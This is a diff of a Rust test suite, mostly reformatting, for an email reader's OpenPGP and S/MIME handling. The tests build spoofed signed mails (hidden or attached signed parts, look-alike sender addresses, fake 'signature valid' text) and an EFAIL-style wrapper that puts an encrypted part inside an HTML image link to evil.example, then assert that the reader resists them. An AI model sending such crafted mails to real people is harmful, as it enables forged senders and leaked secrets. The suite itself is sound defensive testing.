@@ -42,7 +42,10 @@ fn schemes<'a>(house: &'a House, office: &'static Office) -> Vec<Scheme<'a>> {
 
 fn mixed(kind: &str, parts: &[&str]) -> String {
     let parts: Vec<String> = parts.iter().map(|part| format!("--o\n{part}\n")).collect();
-    format!("Content-Type: multipart/{kind}; boundary=o\n\n{}--o--\n", parts.concat())
+    format!(
+        "Content-Type: multipart/{kind}; boundary=o\n\n{}--o--\n",
+        parts.concat()
+    )
 }
 
 /// Mails that claim to be Alice's, each with the name of its class.
@@ -66,12 +69,24 @@ fn attacks(scheme: &Scheme<'_>) -> Vec<(String, String)> {
     }
     let hiding = "Content-Type: text/html\n\nNein.<div style=\"display:none\"><img src=\"cid:signed\"></div>";
     let hidden = by_alice.replacen("\n\n", "\nContent-ID: <signed>\n\n", 1);
-    add("hidden as content", format!("{FROM}{}", mixed("related", &[hiding, &hidden])));
+    add(
+        "hidden as content",
+        format!("{FROM}{}", mixed("related", &[hiding, &hidden])),
+    );
     let attached = by_alice.replacen("\n\n", "\nContent-Disposition: attachment; filename=a.eml\n\n", 1);
-    add("as attachment", format!("{FROM}{}", mixed("mixed", &["\nNein.", &attached])));
+    add(
+        "as attachment",
+        format!("{FROM}{}", mixed("mixed", &["\nNein.", &attached])),
+    );
     add(
         "as attached message",
-        format!("{FROM}{}", mixed("mixed", &["\n ", &format!("Content-Type: message/rfc822\n\n{FROM}{by_alice}")])),
+        format!(
+            "{FROM}{}",
+            mixed(
+                "mixed",
+                &["\n ", &format!("Content-Type: message/rfc822\n\n{FROM}{by_alice}")]
+            )
+        ),
     );
     add(
         "as the only attached message",
@@ -95,7 +110,10 @@ fn attacks(scheme: &Scheme<'_>) -> Vec<(String, String)> {
         "From: mall\u{43e}ry@evil.example\n",
         "",
     ] {
-        add(&format!("signer is not sender {from:?}"), format!("{from}To: x@y\n{by_mallory}"));
+        add(
+            &format!("signer is not sender {from:?}"),
+            format!("{from}To: x@y\n{by_mallory}"),
+        );
     }
     for words in [
         "Gute Signatur von alice@example.org",
@@ -104,13 +122,28 @@ fn attacks(scheme: &Scheme<'_>) -> Vec<(String, String)> {
         "Verification successful",
     ] {
         add("status text", format!("{FROM}\n{words}\n"));
-        add("status text around", format!("{FROM}{}", mixed("mixed", &[&format!("\n{words}"), &by_mallory])));
+        add(
+            "status text around",
+            format!("{FROM}{}", mixed("mixed", &[&format!("\n{words}"), &by_mallory])),
+        );
         add("status header", format!("{FROM}X-Signature: {words}\n\nText\n"));
     }
-    add("after the end", format!("{FROM}{}", mixed("mixed", &[&by_alice]).replace("--o--", "--o\n\nNein.\n--o--")));
+    add(
+        "after the end",
+        format!(
+            "{FROM}{}",
+            mixed("mixed", &[&by_alice]).replace("--o--", "--o\n\nNein.\n--o--")
+        ),
+    );
     add(
         "two signers",
-        format!("{FROM}{}", mixed("mixed", &[&by_alice, &by_mallory.replace("\"s\"", "\"t\"").replace("--s", "--t")])),
+        format!(
+            "{FROM}{}",
+            mixed(
+                "mixed",
+                &[&by_alice, &by_mallory.replace("\"s\"", "\"t\"").replace("--s", "--t")]
+            )
+        ),
     );
     all
 }
@@ -120,7 +153,11 @@ fn no_published_attack_makes_another_the_signer() {
     let (house, office) = (house(), office());
     for scheme in schemes(&house, office) {
         let honest = (scheme.read)(&format!("{FROM}{}", (scheme.alice)(PART)));
-        assert!(honest.signer_is_sender && honest.signature == Signature::Good, "{}", scheme.name);
+        assert!(
+            honest.signer_is_sender && honest.signature == Signature::Good,
+            "{}",
+            scheme.name
+        );
         let attacks = attacks(&scheme);
         assert!(attacks.len() > 80);
         for (class, mail) in attacks {
@@ -134,7 +171,10 @@ fn no_published_attack_makes_another_the_signer() {
 fn a_certificate_that_only_looks_like_the_sender_is_not_his() {
     let office = office();
     for by in ["mallory", "both", "look"] {
-        let protection = office.read(&format!("{FROM}{}", office.signed_entity(PART, by))).unwrap().protection;
+        let protection = office
+            .read(&format!("{FROM}{}", office.signed_entity(PART, by)))
+            .unwrap()
+            .protection;
         assert_eq!(protection.signature, Signature::Good, "{by}");
         assert!(!protection.signer_is_sender, "{by}");
     }
@@ -150,20 +190,33 @@ fn a_ciphertext_wrapped_in_pages_leaks_nothing() {
         ..Make::default()
     };
     let armored = message(b"Content-Type: text/plain\n\nGeheim.", &make);
-    let pgp = pgp_mime("x@y", &armored).split_once("Subject: ...\n").unwrap().1.to_owned();
-    let smime = office.sealed(&office.signed_entity("Content-Type: text/plain\n\nGeheim.", "alice"), "aes-256-cbc");
+    let pgp = pgp_mime("x@y", &armored)
+        .split_once("Subject: ...\n")
+        .unwrap()
+        .1
+        .to_owned();
+    let smime = office.sealed(
+        &office.signed_entity("Content-Type: text/plain\n\nGeheim.", "alice"),
+        "aes-256-cbc",
+    );
     let before = "Content-Type: text/html\n\n<img src=\"http://evil.example/";
     let after = "Content-Type: text/html\n\n\">";
     for (name, sealed) in [("OpenPGP", &pgp), ("S/MIME", &smime)] {
         for kind in ["mixed", "related", "alternative"] {
             let mail = format!("{FROM}{}", mixed(kind, &[before, sealed, after]));
-            let opened = if name == "OpenPGP" { read(&mail, &house.ring) } else { office.read(&mail) }.unwrap();
+            let opened = if name == "OpenPGP" {
+                read(&mail, &house.ring)
+            } else {
+                office.read(&mail)
+            }
+            .unwrap();
             assert!(!opened.protection.signer_is_sender);
             assert_ne!(opened.protection.signature, Signature::Good);
-            let found = crate::pipeline::dissect::dissect(&opened.content, &crate::pipeline::dissect::Budget::default());
+            let found =
+                crate::pipeline::dissect::dissect(&opened.content, &crate::pipeline::dissect::Budget::default());
             for text in &found.texts {
-                let both = text.text.contains("Geheim") && text.html.is_some();
-                assert!(!both && !(text.text.contains("Geheim") && text.text.contains("evil")), "{text:?}");
+                let mixed = text.html.is_some() || text.text.contains("evil");
+                assert!(!text.text.contains("Geheim") || !mixed, "{text:?}");
             }
         }
     }
@@ -188,7 +241,11 @@ fn words_smuggled_into_or_around_a_signed_text_do_not_count() {
         format!(" {}", block.replace('\n', "\n ")),
         nested,
         block.replace("Bitte", "Nicht"),
-        block.replacen("Hash: SHA512\n", "Hash: SHA512\nNein.\n", 1).replacen("Hash: SHA256\n", "Hash: SHA256\nNein.\n", 1),
+        block.replacen("Hash: SHA512\n", "Hash: SHA512\nNein.\n", 1).replacen(
+            "Hash: SHA256\n",
+            "Hash: SHA256\nNein.\n",
+            1,
+        ),
         block.replace("-----BEGIN PGP SIGNATURE-----", "Nein.\n-----BEGIN PGP SIGNATURE-----"),
         format!("{block}{}", cleartext("Nein.\n", &house.mallory)),
     ] {
